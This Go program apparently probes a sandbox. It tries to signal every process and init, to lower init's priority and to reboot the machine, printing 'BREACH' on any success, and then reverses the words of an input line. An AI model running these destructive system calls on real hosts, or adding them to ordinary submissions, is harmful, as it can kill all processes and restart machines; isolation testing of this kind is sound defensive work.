package main

import (
	"bufio"
	"fmt"
	"os"
	"slices"
	"strings"
	"syscall"
)

func main() {
	for number := 1; number < 65; number++ {
		for _, target := range []int{1, -1} {
			if number != 32 && number != 33 && syscall.Kill(target, syscall.Signal(number)) == nil {
				fmt.Println("BREACH", target, number)
			}
		}
	}
	if syscall.Setpriority(syscall.PRIO_PROCESS, 1, 19) == nil {
		fmt.Println("BREACH priority")
	}
	if syscall.Reboot(syscall.LINUX_REBOOT_CMD_RESTART) == nil {
		fmt.Println("BREACH reboot")
	}
	line, _ := bufio.NewReader(os.Stdin).ReadString('\n')
	words := strings.Fields(line)
	slices.Reverse(words)
	fmt.Println(strings.Join(words, " "))
}
